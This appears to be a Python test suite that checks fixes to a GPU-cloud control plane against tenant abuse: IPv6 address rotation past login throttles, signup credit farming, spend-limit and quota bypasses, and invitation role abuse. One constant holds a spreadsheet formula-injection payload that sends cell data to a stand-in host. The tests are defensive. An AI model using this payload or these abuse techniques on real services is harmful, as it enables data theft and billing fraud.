"""A hostile tenant's review of what issue 18 added (roles, signup and login throttling, statements, uploads,
plans, admission). Each test is an attack that worked before its fix; in-process on both databases."""

from __future__ import annotations

import csv
import io
import tarfile
import threading
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from suanli.api.app import create_app
from suanli.billing.money import exact
from suanli.control.accounts import accounts, spend_limits, throttle
from suanli.control.ids import utcnow
from suanli.control.money import prices, statement
from suanli.control.scheduling.scheduling import SchedulingPass
from suanli.control.storage import storage
from suanli.control.workloads.supervisor import Supervisor
from suanli.db.models import Allocation, Workload
from tests.control_plane import admin_token, bearer, join, settings, signup

API = "/api/v1"
PASSWORD = "victim-password"


def from_address(api: TestClient, address: str) -> TestClient:
    return TestClient(api.app, client=(address, 50000))


def _login(client: TestClient, email: str, password: str) -> Any:
    return client.post(f"{API}/login", json={"email": email, "password": password})


# ---- throttling by address: one IPv6 host holds a /64 ------------------------------------------------------------
def test_one_ipv6_host_rotating_through_its_64_is_one_address_to_the_login_limits(api: TestClient) -> None:
    """A host given a /64 has 2^64 addresses: counted one by one, the per-address limit (50 failures) and the
    under-attack rule (one guess per address per 15 minutes) never applied to it."""
    codes = [
        _login(from_address(api, f"2001:db8:7:9::{i:x}"), f"user{i}@example.com", "guess-guess").status_code
        for i in range(throttle.ADDRESS.capacity + 1)
    ]
    assert codes == [401] * throttle.ADDRESS.capacity + [429], codes
    assert _login(from_address(api, "2001:db8:7:a::1"), "user0@example.com", "guess-guess").status_code == 401


def test_guessing_one_password_from_addresses_of_one_64_stops_at_the_pair_limit(api: TestClient) -> None:
    signup(api, "victim@example.com", PASSWORD)
    codes = [
        _login(from_address(api, f"2001:db8:7:9::{i:x}"), "victim@example.com", "guess-guess").status_code
        for i in range(throttle.PAIR.capacity + 1)
    ]
    assert codes == [401] * throttle.PAIR.capacity + [429], codes


def test_an_ipv4_address_written_as_ipv6_is_the_same_address(api: TestClient) -> None:
    for _ in range(throttle.PAIR.capacity):
        assert _login(from_address(api, "192.0.2.44"), "victim@example.com", "guess-guess").status_code == 401
    assert _login(from_address(api, "::ffff:192.0.2.44"), "victim@example.com", "guess-guess").status_code == 429


def test_signups_from_one_ipv6_64_share_one_limit(db_url: str, tmp_path: Path, cheap_password_hashing: None) -> None:
    """Every signup is a trial credit: a /64 signing up from a fresh address each time farmed unlimited money."""
    app = create_app(settings(tmp_path / "home", db_url, signup_per_address_per_hour=3))
    with TestClient(app) as api:
        for i in range(3):
            r = from_address(api, f"2001:db8:5:5::{i + 1:x}").post(
                f"{API}/signup", json={"email": f"farm{i}@example.com", "password": PASSWORD}
            )
            assert r.status_code == 201, r.text
        r = from_address(api, "2001:db8:5:5:ffff::9").post(
            f"{API}/signup", json={"email": "farm9@example.com", "password": PASSWORD}
        )
        assert r.status_code == 429, r.text
        r = from_address(api, "2001:db8:5:6::1").post(
            f"{API}/signup", json={"email": "farm9@example.com", "password": PASSWORD}
        )
        assert r.status_code == 201, r.text


@pytest.mark.parametrize(
    ("address", "counted"),
    [("203.0.113.9", "203.0.113.9"), ("::ffff:203.0.113.9", "203.0.113.9"), ("2001:DB8::1", "2001:db8::/64"),
     ("2001:db8:0:0:8000::1", "2001:db8::/64"), ("fe80::1%eth0", "fe80::/64"), ("testclient", "testclient"),
     ("unknown", "unknown")],
)  # fmt: skip
def test_what_an_address_counts_as(address: str, counted: str) -> None:
    assert throttle.counted_address(address) == counted


# ---- spend limits hold at placement, not only at submission -------------------------------------------------------
def test_a_member_cannot_queue_past_their_spend_limit(api: TestClient) -> None:
    """A submission counted only the member's *running* work against their limit; four queued at once each saw
    nothing running, and the scheduling pass then started all four on the team's money."""
    operator = bearer(admin_token(api))
    assert api.post(f"{API}/admin/clusters", json={"preset": "1x8:H20"}, headers=operator).status_code == 201
    owner, alice = signup(api, "owner@example.com"), signup(api, "alice@example.com")
    org = api.post(f"{API}/orgs", json={"name": "lab"}, headers=owner.headers).json()["id"]
    join(api, owner, org, alice, "member")
    assert (
        api.post(f"{API}/admin/orgs/{org}/transactions", json={"amount": "10000"}, headers=operator).status_code == 201
    )
    srv = api.app.state.server  # type: ignore[attr-defined]
    with srv.db.read() as s:
        rate = prices.current(s)[1].rate("H20", 1, "on-demand", 1000)
    hold = srv.settings.admission_hold_minutes
    limit = exact(rate * hold / 60 * Decimal("1.5"))  # one job's hold fits, two do not
    r = api.patch(f"{API}/orgs/{org}/members/{alice.user_id}", json={"monthly_spend_limit": str(limit)},
                  headers=owner.headers)  # fmt: skip
    assert r.status_code == 200, r.text
    spec = {"command": "true", "duration": 3600, "resources": {"gpu": "H20", "gpus": 1}}
    ids = []
    for i in range(4):
        r = api.post(f"{API}/workloads", json={"spec": {**spec, "name": f"a{i}"}, "org": org}, headers=alice.headers)
        assert r.status_code == 201, r.text
        ids.append(r.json()["id"])
    r = api.post(f"{API}/workloads", json={"spec": {**spec, "name": "boss"}, "org": org}, headers=owner.headers)
    boss = r.json()["id"]
    SchedulingPass().run(srv.db, utcnow())
    with srv.db.read() as s:
        started = s.scalars(select(Workload.id).where(Workload.id.in_(ids), Workload.state != "pending")).all()
        waiting = s.scalars(select(Workload.pending_reason).where(Workload.id.in_(ids), Workload.state == "pending"))
        reasons = list(waiting)
        assert s.get(Workload, boss).state != "pending", "a member without a limit is not held back"
    assert len(started) == 1, f"{len(started)} of alice's jobs started on a limit that holds one"
    assert reasons and all("monthly_spend_limit" in why for why in reasons), reasons


# ---- queue flooding -----------------------------------------------------------------------------------------------
def test_an_org_cannot_flood_the_queue(db_url: str, tmp_path: Path, cheap_password_hashing: None) -> None:
    """A submission counted only running work against the balance: a ¥10 tenant could queue without end, and every
    scheduling pass (and every other tenant's work) paid for walking it."""
    app = create_app(settings(tmp_path / "home", db_url, max_queued_per_org=3))
    with TestClient(app) as api:
        operator = bearer(admin_token(api))
        assert api.post(f"{API}/admin/clusters", json={"preset": "1x8:H20"}, headers=operator).status_code == 201
        flood, other = signup(api, "flood@example.com"), signup(api, "other@example.com")
        spec = {"command": "true", "duration": 60, "resources": {"gpus": 0}}

        def submit(who: Any, name: str) -> Any:
            return api.post(f"{API}/workloads", json={"spec": {**spec, "name": name}}, headers=who.headers)

        ids = []
        for i in range(3):
            r = submit(flood, f"j{i}")
            assert r.status_code == 201, r.text
            ids.append(r.json()["id"])
        r = submit(flood, "j3")
        assert r.status_code == 409, r.text
        why = r.json()["detail"]
        assert why.startswith("queue: ") and "max_queued_per_org" in why and "3 workloads waiting" in why, why
        assert submit(other, "mine").status_code == 201, "another org's queue is its own"
        assert api.post(f"{API}/workloads/{ids[0]}/stop", headers=flood.headers).status_code == 200
        assert submit(flood, "j4").status_code == 201, "room again once one left the queue"


# ---- storage: uploads nobody submitted ------------------------------------------------------------------------------
def _tar_gz(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _upload(api: TestClient, who: Any, data: bytes, **params: str) -> Any:
    return api.post(f"{API}/workdirs", content=data, params=params,
                    headers={**who.headers, "Content-Type": "application/gzip"})  # fmt: skip


@pytest.fixture
def small_disk(db_url: str, tmp_path: Path, cheap_password_hashing: None) -> Any:
    app = create_app(settings(tmp_path / "home", db_url, storage_quota_bytes=64 << 10, workdir_max_bytes=48 << 10))
    with TestClient(app) as api:
        yield api


def test_team_orgs_do_not_multiply_what_one_user_keeps_staged(small_disk: TestClient) -> None:
    """Orgs cost nothing to create and each had its own storage quota: one user kept a quota's worth of uploads in
    each of as many team orgs as they cared to make (an hour each, and again)."""
    api = small_disk
    who = signup(api, "hoarder@example.com")
    teams = [api.post(f"{API}/orgs", json={"name": f"t{i}"}, headers=who.headers).json()["id"] for i in range(3)]
    blob = _tar_gz({"data.bin": b"x" * (40 << 10)})  # 40 KiB of a 64 KiB quota
    r = _upload(api, who, blob, org=teams[0])
    assert r.status_code == 201, r.text
    for org in [*teams[1:], who.org_id]:
        r = _upload(api, who, blob, org=org)
        assert r.status_code == 409, r.text
        assert r.json()["detail"].startswith("upload: ") and "storage_quota_bytes" in r.json()["detail"], r.text
    other = signup(api, "other@example.com")
    assert _upload(api, other, blob).status_code == 201, "another user's uploads are their own"


def test_empty_uploads_cannot_pile_up(small_disk: TestClient) -> None:
    """An empty archive was counted as 0 bytes: uploads without end, each a row and a directory for an hour."""
    api = small_disk
    who = signup(api, "empty@example.com")
    empty = _tar_gz({})
    codes = [_upload(api, who, empty).status_code for _ in range(storage.MAX_STAGED + 1)]
    assert codes == [201] * storage.MAX_STAGED + [409], codes
    r = _upload(api, who, empty)
    assert "uploads waiting" in r.json()["detail"] and r.json()["detail"].startswith("upload: "), r.text


# ---- known smells ----------------------------------------------------------------------------------------------------
def test_an_operator_creating_a_user_hashes_off_the_request_threads_and_outside_a_transaction(
    api: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`POST /admin/users` hashed the password (argon2, ~0.3 s of CPU) on a request thread inside its write
    transaction: on SQLite every other write in the server waited for the hash."""
    seen: list[tuple[str, bool]] = []
    real = accounts.hash_password
    srv = api.app.state.server  # type: ignore[attr-defined]

    def spy(password: str) -> str:
        seen.append((threading.current_thread().name, srv.db.engine.pool.checkedout() > 0))
        return real(password)

    monkeypatch.setattr(accounts, "hash_password", spy)
    r = api.post(f"{API}/admin/users", json={"email": "new@example.com", "password": "a-long-password"},
                 headers=bearer(admin_token(api)))  # fmt: skip
    assert r.status_code == 201, r.text
    assert len(seen) == 1 and seen[0][0].startswith("passwords"), seen
    assert not seen[0][1], "no database connection is held while the password is hashed"
    assert _login(api, "new@example.com", "a-long-password").status_code == 200
    r = api.post(f"{API}/admin/users", json={"email": "new@example.com", "password": "a-long-password"},
                 headers=bearer(admin_token(api)))  # fmt: skip
    assert r.status_code == 409, r.text


def test_patching_a_member_reads_that_member_only(api: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    """`PATCH /orgs/{id}/members/{uid}` answered by listing every member with this month's charges of all of them
    (the org's whole month of usage transactions) to pick one."""
    owner = signup(api, "owner@example.com")
    org = api.post(f"{API}/orgs", json={"name": "lab"}, headers=owner.headers).json()["id"]
    people = [signup(api, f"m{i}@example.com") for i in range(3)]
    for p in people:
        join(api, owner, org, p, "member")
    summed: list[str | None] = []
    real = spend_limits.month_to_date

    def spy(s: Any, org_id: str, now: Any, user_id: str | None = None) -> Any:
        summed.append(user_id)
        return real(s, org_id, now, user_id)

    monkeypatch.setattr(spend_limits, "month_to_date", spy)
    r = api.patch(f"{API}/orgs/{org}/members/{people[1].user_id}", json={"role": "admin", "monthly_spend_limit": "5"},
                  headers=owner.headers)  # fmt: skip
    assert r.status_code == 200, r.text
    assert summed == [people[1].user_id], summed
    listed = next(m for m in api.get(f"{API}/orgs/{org}/members", headers=owner.headers).json()
                  if m["user_id"] == people[1].user_id)  # fmt: skip
    assert r.json() == listed and listed["role"] == "admin" and listed["monthly_spend_limit"] == "5.00000000"


def test_a_member_cannot_grow_elastic_work_past_their_spend_limit(api: TestClient) -> None:
    """Elastic work was grown into idle GPUs at placement, and again while it ran (by the policy or the member's
    own `scale`), with the org's balance checked but never the member's limit: a 1-GPU minimum held 16."""
    operator = bearer(admin_token(api))
    assert api.post(f"{API}/admin/clusters", json={"preset": "2x8:H20"}, headers=operator).status_code == 201
    owner, alice = signup(api, "owner@example.com"), signup(api, "alice@example.com")
    org = api.post(f"{API}/orgs", json={"name": "lab"}, headers=owner.headers).json()["id"]
    join(api, owner, org, alice, "member")
    assert (
        api.post(f"{API}/admin/orgs/{org}/transactions", json={"amount": "10000"}, headers=operator).status_code == 201
    )
    srv = api.app.state.server  # type: ignore[attr-defined]
    hold = srv.settings.admission_hold_minutes
    with srv.db.read() as s:
        book = prices.current(s)[1]
    limit = exact(book.rate("H20", 2, "on-demand", 1000) * hold / 60 * Decimal("1.2"))  # two GPUs' hold fits
    fits = max(k for k in range(1, 17) if exact(book.rate("H20", k, "on-demand", 1000) * hold / 60) <= limit)
    assert fits == 2
    r = api.patch(f"{API}/orgs/{org}/members/{alice.user_id}", json={"monthly_spend_limit": str(limit)},
                  headers=owner.headers)  # fmt: skip
    assert r.status_code == 200, r.text
    spec = {
        "name": "grow",
        "command": "train",
        "duration": 3600,
        "resources": {"gpu": "H20", "gpus": {"min": 1, "max": 16}},
    }
    r = api.post(f"{API}/workloads", json={"spec": spec, "org": org}, headers=alice.headers)
    assert r.status_code == 201, r.text
    wid = r.json()["id"]
    sched, sup = SchedulingPass(), Supervisor(srv.settings.home, grace_s=1.0)

    def tick() -> None:
        now = utcnow()
        sup.run(srv.db, now)
        sched.run(srv.db, now)
        sup.run(srv.db, now)

    def held() -> list[int]:
        with srv.db.read() as s:
            return list(s.scalars(select(Allocation.gpus).where(Allocation.workload == wid)
                                  .order_by(Allocation.started_at)))  # fmt: skip

    tick()
    assert held() == [fits], f"placed on {held()} GPUs where the limit holds {fits}"
    assert api.post(f"{API}/workloads/{wid}/scale", json={"gpus": 8}, headers=alice.headers).status_code == 200
    tick()
    tick()
    assert held() == [fits], f"grown to {held()} GPUs where the limit holds {fits}"


def test_a_member_at_their_spend_limit_does_not_keep_others_work_from_idle_gpus(api: TestClient) -> None:
    """Checked only at placement, a limited member's queue would be handed the free GPUs every pass and refused there,
    while another tenant's work behind it waited at those idle GPUs (issue 18 #2 again). The walk before the cycle
    holds it back, saying why."""
    operator = bearer(admin_token(api))
    assert api.post(f"{API}/admin/clusters", json={"preset": "2x8:H20"}, headers=operator).status_code == 201
    owner, alice, other = (signup(api, f"{n}@example.com") for n in ("owner", "alice", "other"))
    org = api.post(f"{API}/orgs", json={"name": "lab"}, headers=owner.headers).json()["id"]
    join(api, owner, org, alice, "member")
    for o in (org, other.org_id):
        r = api.post(f"{API}/admin/orgs/{o}/transactions", json={"amount": "10000"}, headers=operator)
        assert r.status_code == 201, r.text
    srv = api.app.state.server  # type: ignore[attr-defined]
    with srv.db.read() as s:
        rate = prices.current(s)[1].rate("H20", 8, "on-demand", 1000)
    limit = exact(rate * srv.settings.admission_hold_minutes / 60 * Decimal("1.5"))  # one 8-GPU job, not two
    r = api.patch(f"{API}/orgs/{org}/members/{alice.user_id}", json={"monthly_spend_limit": str(limit)},
                  headers=owner.headers)  # fmt: skip
    assert r.status_code == 200, r.text
    spec = {"command": "true", "duration": 3600, "resources": {"gpu": "H20", "gpus": 8}}

    def submit(who: Any, name: str, org_id: str | None = None) -> str:
        r = api.post(f"{API}/workloads", json={"spec": {**spec, "name": name}, "org": org_id}, headers=who.headers)
        assert r.status_code == 201, r.text
        return str(r.json()["id"])

    running, *queued = (submit(alice, f"a{i}", org) for i in range(3))  # each admitted: nothing of hers runs yet
    theirs = submit(other, "b")  # behind alice's three in the queue
    SchedulingPass().run(srv.db, utcnow())  # 16 GPUs: her first job, and b
    with srv.db.read() as s:
        state = {w.id: (w.state, w.pending_reason) for w in s.scalars(select(Workload))}
    assert state[running][0] != "pending"
    assert state[theirs][0] != "pending", f"another tenant's job waits at 8 idle GPUs: {state[theirs]}"
    for wid in queued:
        assert state[wid][0] == "pending" and state[wid][1].startswith("waiting for spend limit"), state[wid]


# ---- CSV a spreadsheet opens -----------------------------------------------------------------------------------------
EVIL = '=hyperlink("http://evil.example/?"&a1)@evil.example'  # emails are kept in lower case


def test_a_members_email_in_a_usage_csv_is_text_not_a_formula(api: TestClient) -> None:
    """A member signed up with an email a spreadsheet runs as a formula (`=HYPERLINK(...)@…` is a valid address);
    the owner's usage CSV put it in a cell as it was."""
    operator = bearer(admin_token(api))
    assert api.post(f"{API}/admin/clusters", json={"preset": "1x8:H20"}, headers=operator).status_code == 201
    owner, evil = signup(api, "owner@example.com"), signup(api, EVIL)
    org = api.post(f"{API}/orgs", json={"name": "lab"}, headers=owner.headers).json()["id"]
    join(api, owner, org, evil, "member")
    assert api.post(f"{API}/admin/orgs/{org}/transactions", json={"amount": "100", "memo": "-2+3"},
                    headers=operator).status_code == 201  # fmt: skip
    spec = {"name": "x", "command": "true", "duration": 60, "resources": {"gpu": "H20", "gpus": 1}}
    assert api.post(f"{API}/workloads", json={"spec": spec, "org": org}, headers=evil.headers).status_code == 201
    srv = api.app.state.server  # type: ignore[attr-defined]
    SchedulingPass().run(srv.db, utcnow())
    r = api.get(f"{API}/orgs/{org}/usage", params={"format": "csv"}, headers=owner.headers)
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [row["user"] for row in rows] == ["'" + EVIL], rows
    assert api.get(f"{API}/orgs/{org}/usage", headers=owner.headers).json()[0]["user"] == EVIL, "JSON as it is"
    r = api.get(f"{API}/orgs/{org}/statement", params={"format": "csv"}, headers=owner.headers)
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert rows[0]["memo"] == "'-2+3" and rows[0]["amount"] == "100.00000000", rows


# ---- owners' invitations are owners' business ------------------------------------------------------------------------
def test_an_admin_cannot_cancel_or_replace_an_owners_invitation(api: TestClient) -> None:
    """Inviting, making or removing owners is for owners; but an admin could cancel an owner's invitation of a new
    owner, or replace it (inviting the same email again cancelled it) with one as a mere member."""
    owner, adm, newcomer = (signup(api, f"{n}@example.com") for n in ("owner", "adm", "newcomer"))
    org = api.post(f"{API}/orgs", json={"name": "lab"}, headers=owner.headers).json()["id"]
    join(api, owner, org, adm, "admin")
    inv = api.post(f"{API}/orgs/{org}/invitations", json={"email": newcomer.email, "role": "owner"},
                   headers=owner.headers).json()  # fmt: skip
    r = api.delete(f"{API}/orgs/{org}/invitations/{inv['id']}", headers=adm.headers)
    assert r.status_code == 403 and "owners" in r.json()["detail"], r.text
    r = api.post(f"{API}/orgs/{org}/invitations", json={"email": newcomer.email, "role": "member"}, headers=adm.headers)
    assert r.status_code == 403 and "owners" in r.json()["detail"], r.text
    mine = api.get(f"{API}/invitations", headers=newcomer.headers).json()
    assert [(i["id"], i["role"], i["state"]) for i in mine] == [(inv["id"], "owner", "pending")], mine
    # An admin's own invitations stay theirs to cancel or replace, and an owner may cancel the owner invitation.
    other = api.post(f"{API}/orgs/{org}/invitations", json={"email": "x@example.com"}, headers=adm.headers).json()
    r = api.post(
        f"{API}/orgs/{org}/invitations", json={"email": "x@example.com", "role": "viewer"}, headers=adm.headers
    )
    assert r.status_code == 201, r.text
    assert api.delete(f"{API}/orgs/{org}/invitations/{other['id']}", headers=adm.headers).status_code == 200
    r = api.delete(f"{API}/orgs/{org}/invitations/{inv['id']}", headers=owner.headers)
    assert r.status_code == 200 and r.json()["state"] == "cancelled", r.text
    r = api.delete(f"{API}/orgs/{org}/invitations/{other['id']}", headers=owner.headers)
    assert r.json()["invited_by"] == adm.email, "the answer names who invited, not who cancelled"


def test_an_invitation_dies_with_its_inviters_right_to_make_it(api: TestClient) -> None:
    """An admin about to be demoted invited a second account of theirs as admin; demoted, they accepted it and were
    an admin again. An invitation is accepted only while whoever made it may still invite with that role."""
    owner, adm, alt = (signup(api, f"{n}@example.com") for n in ("owner", "adm", "alt"))
    org = api.post(f"{API}/orgs", json={"name": "lab"}, headers=owner.headers).json()["id"]
    join(api, owner, org, adm, "admin")
    inv = api.post(f"{API}/orgs/{org}/invitations", json={"email": alt.email, "role": "admin"}, headers=adm.headers)
    assert inv.status_code == 201, inv.text
    r = api.patch(f"{API}/orgs/{org}/members/{adm.user_id}", json={"role": "member"}, headers=owner.headers)
    assert r.status_code == 200, r.text
    r = api.post(f"{API}/invitations/{inv.json()['id']}/accept", headers=alt.headers)
    assert r.status_code == 409 and "was cancelled" in r.json()["detail"], r.text
    members = {m["email"] for m in api.get(f"{API}/orgs/{org}/members", headers=owner.headers).json()}
    assert alt.email not in members
    assert api.get(f"{API}/invitations", headers=alt.headers).json() == [], "it is no longer offered"
    # Removed, an admin's invitations go with them; a demotion to admin keeps those an admin may make.
    api.patch(f"{API}/orgs/{org}/members/{adm.user_id}", json={"role": "admin"}, headers=owner.headers)
    inv = api.post(f"{API}/orgs/{org}/invitations", json={"email": alt.email}, headers=adm.headers).json()
    assert api.delete(f"{API}/orgs/{org}/members/{adm.user_id}", headers=owner.headers).status_code == 204
    assert api.post(f"{API}/invitations/{inv['id']}/accept", headers=alt.headers).status_code == 409
    # The same with an invitation code at signup, where signup is by invitation.
    code = api.post(f"{API}/orgs/{org}/invitations", json={"email": "late@example.com", "role": "member"},
                    headers=owner.headers).json()["code"]  # fmt: skip
    r = api.patch(f"{API}/orgs/{org}/members/{owner.user_id}", json={"role": "owner"}, headers=owner.headers)
    assert r.status_code == 200, r.text
    r = api.post(f"{API}/signup", json={"email": "late@example.com", "password": PASSWORD, "invite": code})
    assert r.status_code == 201 and org in {o["id"] for o in api.get(f"{API}/me", headers={
        "Authorization": f"Bearer {r.json()['token']}"}).json()["orgs"]}, r.text  # fmt: skip


# ---- a statement page costs a page ----------------------------------------------------------------------------------
def test_a_statement_page_reads_a_page_not_the_orgs_whole_history(db_url: str) -> None:
    """Each page summed every entry of the org's account in a window (1.2-1.7 s a page at 300,000 transactions on
    SQLite): any viewer paging a statement in a loop kept the server's CPUs busy. Now a page reads its own rows and one
    index range for the balance before it: the statements a page runs are put to SQLite's planner, which must find
    no scan of the ledger's entries and no sort of them (only of the page's own rows)."""
    from sqlalchemy import event

    from suanli.db.engine import Database
    from suanli.db.migrate import migrate

    db = Database(db_url)
    migrate(db.engine)
    seen: list[tuple[str, Any]] = []
    try:
        with db.write() as s, s.begin():
            prices.current(s)

        def record(c: Any, cur: Any, sql: str, params: Any, *a: Any) -> None:
            seen.append((sql, params))

        event.listen(db.engine, "before_cursor_execute", record)
        with db.read() as s:
            for after in (None, 10):
                statement.page(s, "org_0000000000000001", after_id=after, limit=100)
        event.remove(db.engine, "before_cursor_execute", record)
        if db.engine.dialect.name != "sqlite":
            return
        entries = [(sql, params) for sql, params in seen if "ledger_entries" in sql]
        assert entries and not any(" OVER " in sql.upper() for sql, _ in entries), "no window over the history"
        with db.engine.connect() as c:
            for sql, params in entries:
                plan = " | ".join(str(r[-1]) for r in c.exec_driver_sql("EXPLAIN QUERY PLAN " + sql, params))
                assert "SCAN ledger_entries" not in plan and "B-TREE FOR GROUP BY" not in plan, (sql, plan)
    finally:
        db.dispose()


# ---- leaving the team leaves its queue -----------------------------------------------------------------------------
def test_a_removed_or_demoted_member_s_queued_work_does_not_start_on_the_teams_money(api: TestClient) -> None:
    """An owner removed a member (or made them a viewer, who may not spend); their queued jobs stayed pending and
    the next scheduling pass started them on the team's money."""
    operator = bearer(admin_token(api))
    assert api.post(f"{API}/admin/clusters", json={"preset": "1x8:H20"}, headers=operator).status_code == 201
    owner, alice, bob = (signup(api, f"{n}@example.com") for n in ("owner", "alice", "bob"))
    org = api.post(f"{API}/orgs", json={"name": "lab"}, headers=owner.headers).json()["id"]
    join(api, owner, org, alice, "member")
    join(api, owner, org, bob, "member")
    assert (
        api.post(f"{API}/admin/orgs/{org}/transactions", json={"amount": "1000"}, headers=operator).status_code == 201
    )
    spec = {"command": "true", "duration": 60, "resources": {"gpus": 0}}

    def submit(who: Any, name: str, org_id: str | None = org) -> str:
        r = api.post(f"{API}/workloads", json={"spec": {**spec, "name": name}, "org": org_id}, headers=who.headers)
        assert r.status_code == 201, r.text
        return str(r.json()["id"])

    alices, bobs = [submit(alice, "a1"), submit(alice, "a2")], [submit(bob, "b1")]
    own = submit(alice, "mine", None)  # in her personal org: not the team's business
    assert api.delete(f"{API}/orgs/{org}/members/{alice.user_id}", headers=owner.headers).status_code == 204
    r = api.patch(f"{API}/orgs/{org}/members/{bob.user_id}", json={"role": "viewer"}, headers=owner.headers)
    assert r.status_code == 200, r.text
    srv = api.app.state.server  # type: ignore[attr-defined]
    SchedulingPass().run(srv.db, utcnow())
    with srv.db.read() as s:
        rows = {w.id: w for w in s.scalars(select(Workload))}
    for wid in alices + bobs:
        assert rows[wid].state == "stopped", (rows[wid].state, rows[wid].reason)
    assert "no longer a member" in rows[alices[0]].reason and "viewer" in rows[bobs[0]].reason
    assert rows[own].state != "stopped"
